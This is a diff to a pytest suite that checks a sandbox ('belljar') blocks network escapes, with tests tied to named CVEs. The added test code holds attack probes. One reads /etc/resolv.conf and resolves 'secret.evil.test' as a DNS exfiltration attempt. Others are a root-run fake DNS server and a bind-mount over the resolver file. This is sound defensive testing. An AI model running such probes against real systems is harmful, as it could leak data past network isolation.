@@ -17,8 +17,8 @@ from pathlib import Path
 from typing import NamedTuple
 
 import pytest
-from attack_control import control, python_control
-from attack_probe import escaped, held, python_probe
+from attack_control import control, own_tmp, python_control
+from attack_probe import escaped, held, python_probe, refused_by_the_jar
 
 from belljar import Sandbox
 
@@ -162,28 +162,51 @@ def test_bash_has_no_way_out_either(jar: Sandbox, ears: Ears) -> None:
 
 @pytest.mark.parametrize("enabled", [True, False])
 def test_empty_allowlist_allows_nothing(open_jar: OpenJar, ears: Ears, enabled: bool) -> None:
-    """CVE-2025-66479: `allowlist: []` is no "allow all", with the network on or off; the control is the table above."""
+    """CVE-2025-66479: `allowlist: []` is no "allow all", with the network on or off."""
     jar = open_jar({"net": {"enabled": enabled, "allowlist": []}})
-    result = jar.run(_fill(WAYS[0].body, ears))
+    code = _fill(WAYS[0].body, ears)
+    result = jar.run(code)
     assert result.outcome == "refused" or held(result)
     assert not ears.heard(0.1)
+    assert escaped(python_control(code, network=True))
+    assert ears.heard(5)
+
+
+LOOK_UP = """
+def attack():
+    servers = [line for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
+    try:
+        socket.getaddrinfo("secret.evil.test", 80)
+    except OSError:
+        if not servers:
+            raise
+    return servers
+"""
+SERVER = """
+import fcntl, socket, struct, threading
+fcntl.ioctl(socket.socket(), 0x8914, struct.pack("16sH22x", b"lo", 1))
+server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+server.bind(("127.0.0.1", 53))
+def serve():
+    while True:
+        data, sender = server.recvfrom(512)
+        print("asked:", data[12:].split(b"\\0")[0], flush=True)
+        server.sendto(data[:2] + b"\\x81\\x83" + data[4:], sender)  # there is no such name
+threading.Thread(target=serve, daemon=True).start()
+"""
 
 
 def test_name_is_not_looked_up(jar: Sandbox) -> None:
-    """CVE-2025-55284: there is no name server in the jar's settings and no route to one: a name carries nothing."""
-    code = python_probe(
-        """
-        def attack():
-            servers = [line for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
-            if servers:
-                return servers
-            return socket.getaddrinfo("secret.evil.test", 80)
-        """
-    )
+    """CVE-2025-55284: there is no name server in the jar's settings and no route to one: a name carries nothing.
+
+    The control has a name server of its own, which is asked.
+    """
+    code = python_probe(LOOK_UP)
     assert held(jar.run(code))
-    if os.path.exists("/etc/resolv.conf"):
-        said = python_control(code, network=True)
-        assert "ESCAPED" in said or "nameserver" not in Path("/etc/resolv.conf").read_text()
+    setup = f"{own_tmp()}; echo nameserver 127.0.0.1 >own; mount --bind own /etc/resolv.conf"
+    said = python_control(SERVER + code, root=True, setup=setup)
+    assert escaped(said), said
+    assert "asked: b'\\x06secret\\x04evil\\x04test'" in said
 
 
 class Kind(NamedTuple):
@@ -193,6 +216,7 @@ class Kind(NamedTuple):
     body: str
     root: bool = True
     host_may_lack: bool = False
+    """A kernel may not have it; then the control is that the jar's refusal is another than that kernel's."""
 
 
 KINDS = (
@@ -232,11 +256,13 @@ KINDS = (
 def test_socket_around_the_network_is_refused(jar: Sandbox, kind: Kind) -> None:
     """Sockets around TCP and UDP, or that change the network, are refused; root of a control's namespace has them."""
     code = python_probe(f"def attack(): return {kind.body}")
-    assert held(jar.run(code))
+    result = jar.run(code)
+    assert held(result)
     said = python_control(code, root=kind.root)
-    if kind.host_may_lack and "ESCAPED" not in said:
-        pytest.skip(f"this kernel has no {kind.name} sockets, so there is no control: {said.strip()[-200:]}")
-    assert escaped(said), said
+    if kind.host_may_lack:
+        refused_by_the_jar(result, said)
+    else:
+        assert escaped(said), said
 
 
 def test_route_can_not_be_added(jar: Sandbox) -> None:
